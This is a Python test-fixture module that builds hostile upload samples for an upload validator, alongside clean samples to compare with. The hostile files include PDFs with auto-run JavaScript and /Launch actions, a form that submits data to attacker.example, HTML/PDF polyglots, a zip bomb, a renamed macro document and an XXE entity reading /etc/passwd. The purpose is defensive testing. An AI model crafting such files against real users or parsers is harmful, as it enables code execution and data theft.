"""Files an attacker would upload, and clean ones to compare with, built in the tests (no Django here).

Each hostile file is small and built the way the attack is known to work: a PDF whose catalogue runs
JavaScript on opening, a .docm renamed .docx, a PDF that is also a web page, and so on.
"""

from __future__ import annotations

import io
import zipfile

from docx import Document
from docx.shared import Mm
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

MiB = 1024 * 1024
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def _name(value: str) -> NameObject:
    return NameObject(value)


def pdf(pages: int = 1, *, change: object = None) -> bytes:
    """A plain A4 PDF of `pages` blank pages; `change(writer)` may add to it before it is written."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if callable(change):
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({_name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name(f"/{key}")] = value  # type: ignore[assignment]
    return action


def _set_root(key: str, value: object) -> object:
    def change(writer: PdfWriter) -> None:
        writer._root_object[_name(key)] = value  # type: ignore[index]

    return change


def pdf_open_action_javascript() -> bytes:
    """The catalogue's /OpenAction runs JavaScript as soon as the PDF is opened."""
    return pdf(change=_set_root("/OpenAction", _action("/JavaScript", JS=TextStringObject("app.alert(1)"))))


def pdf_launch() -> bytes:
    """Opening the PDF launches a program (/Launch)."""
    return pdf(change=_set_root("/OpenAction", _action("/Launch", F=TextStringObject("cmd.exe"))))


def pdf_link_launch() -> bytes:
    """A link on the page launches a program when clicked: the action hides in an annotation."""

    def change(writer: PdfWriter) -> None:
        link = DictionaryObject(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name("/Link"),
                _name("/Rect"): ArrayObject(
                    [FloatObject(0), FloatObject(0), FloatObject(100), FloatObject(20)]
                ),
                _name("/A"): _action("/Launch", F=TextStringObject("calc.exe")),
            }
        )
        writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(link)])

    return pdf(change=change)


def pdf_link_uri() -> bytes:
    """A CV's ordinary web link (/URI in a link annotation): inert, accepted."""

    def change(writer: PdfWriter) -> None:
        link = DictionaryObject(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name("/Link"),
                _name("/Rect"): ArrayObject(
                    [FloatObject(0), FloatObject(0), FloatObject(100), FloatObject(20)]
                ),
                _name("/A"): _action("/URI", URI=TextStringObject("https://www.linkedin.com/in/example")),
            }
        )
        writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(link)])

    return pdf(change=change)


def pdf_page_additional_action() -> bytes:
    """A page that calls a web address by itself whenever it is shown (/AA on the page): a tracker."""

    def change(writer: PdfWriter) -> None:
        ping = _action("/URI", URI=TextStringObject("https://tracker.example/seen"))
        writer.pages[0][_name("/AA")] = DictionaryObject({_name("/O"): ping})

    return pdf(change=change)


def pdf_open_action_uri() -> bytes:
    """Opening the PDF calls a web address (an /OpenAction that is not a page)."""
    return pdf(
        change=_set_root("/OpenAction", _action("/URI", URI=TextStringObject("https://tracker.example")))
    )


def pdf_submit_form() -> bytes:
    """A form field whose action sends the form's data to a web address."""

    def change(writer: PdfWriter) -> None:
        submit = _action("/SubmitForm", F=TextStringObject("https://attacker.example/collect"))
        field = DictionaryObject(
            {
                _name("/FT"): _name("/Btn"),
                _name("/T"): TextStringObject("send"),
                _name("/Subtype"): _name("/Widget"),
                _name("/Rect"): ArrayObject(
                    [FloatObject(0), FloatObject(0), FloatObject(50), FloatObject(20)]
                ),
                _name("/A"): submit,
            }
        )
        reference = writer._add_object(field)
        writer.pages[0][_name("/Annots")] = ArrayObject([reference])
        writer._root_object[_name("/AcroForm")] = DictionaryObject(
            {_name("/Fields"): ArrayObject([reference])}
        )

    return pdf(change=change)


def pdf_open_on_first_page() -> bytes:
    """An /OpenAction that only shows the first page fitted to the window: inert, accepted."""

    def change(writer: PdfWriter) -> None:
        destination = ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")])
        writer._root_object[_name("/OpenAction")] = destination

    return pdf(change=change)


def pdf_embedded_exe() -> bytes:
    """A PDF carrying a Windows program as an attachment."""
    return pdf(change=lambda writer: writer.add_attachment("setup.exe", b"MZ\x90\x00" + b"\x00" * 60))


def pdf_xfa() -> bytes:
    """An XFA form: the page is drawn by the viewer from an XML template, scripts included."""
    template = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>'

    def change(writer: PdfWriter) -> None:
        stream = writer._add_object(_stream(template))
        writer._root_object[_name("/AcroForm")] = DictionaryObject(
            {_name("/Fields"): ArrayObject(), _name("/XFA"): stream}
        )

    return pdf(change=change)


def pdf_escaped_javascript() -> bytes:
    """JavaScript under a hex-escaped name (/J#61vaScript), which a plain search for the name misses."""
    data = pdf(change=_set_root("/OpenAction", _action("/JavaScript", JS=TextStringObject("app.alert(1)"))))
    return data.replace(b"/S /JavaScript", b"/S /J#61vaScript").replace(b"/JS ", b"/J#53 ")


def pdf_hidden_javascript() -> bytes:
    """A JavaScript object appended after the end of file, outside the cross-reference table.

    pypdf never reads it, but a viewer repairing the file may; the raw bytes still show it.
    """
    return pdf() + b"99 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"


def pdf_encrypted() -> bytes:
    def change(writer: PdfWriter) -> None:
        writer.encrypt(user_password="secret", owner_password="secret", algorithm="AES-128")

    return pdf(change=change)


def pdf_html_polyglot() -> bytes:
    """A web page whose bytes are also a PDF: a browser runs the script, a PDF reader shows the page."""
    return b"<html><body><script>alert(document.cookie)</script></body></html>\n" + pdf()


def pdf_with_markup_in_its_head() -> bytes:
    """A PDF starting at byte 0 whose first kilobyte also holds a script a sniffing browser would run."""
    data = pdf()
    return data.replace(b"\n", b"\n%<script>alert(1)</script>\n", 1)


def pdf_header_after_junk() -> bytes:
    """A PDF behind 200 bytes of something else: readers look for the header in the first kilobyte."""
    return b"GIF89a" + b"\x00" * 194 + pdf()


def _stream(data: bytes) -> StreamObject:
    stream = StreamObject()
    stream.set_data(data)
    stream[_name("/Length")] = NumberObject(len(data))
    return stream


# Word documents


def docx(text: str = "Key challenges", *, title: str = "Key challenges") -> bytes:
    """A one-page A4 Word document."""
    document = Document()
    document.core_properties.title = title
    section = document.sections[0]
    section.page_width, section.page_height = Mm(210), Mm(297)
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _zipped(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx_zip_bomb() -> bytes:
    """A .docx with a 20 MB part of zeros that deflates a thousandfold."""
    return _zipped({**_parts(docx()), "word/media/image1.png": b"\x00" * (20 * MiB)})


def docm_renamed() -> bytes:
    """A macro-enabled document (.docm: macro content type and a VBA project), to be named .docx."""
    parts = _parts(docx())
    types = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        DOCM_MAIN.encode(),
    )
    return _zipped({**parts, "[Content_Types].xml": types, "word/vbaProject.bin": b"\xcc" * 512})


def docx_xxe() -> bytes:
    """A .docx whose main part declares an external entity reading /etc/passwd."""
    payload = (
        b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"
    )
    return _zipped({**_parts(docx()), "word/document.xml": payload})


# Every hostile file of the issue, by what it is; the names they are uploaded under pass the suffix check.
HOSTILE_PDFS = {
    "pdf_open_action_javascript": pdf_open_action_javascript,
    "pdf_launch": pdf_launch,
    "pdf_embedded_exe": pdf_embedded_exe,
    "pdf_xfa": pdf_xfa,
    "pdf_html_polyglot": pdf_html_polyglot,
}
HOSTILE_DOCX = {
    "docx_zip_bomb": docx_zip_bomb,
    "docm_renamed": docm_renamed,
    "docx_xxe": docx_xxe,
}
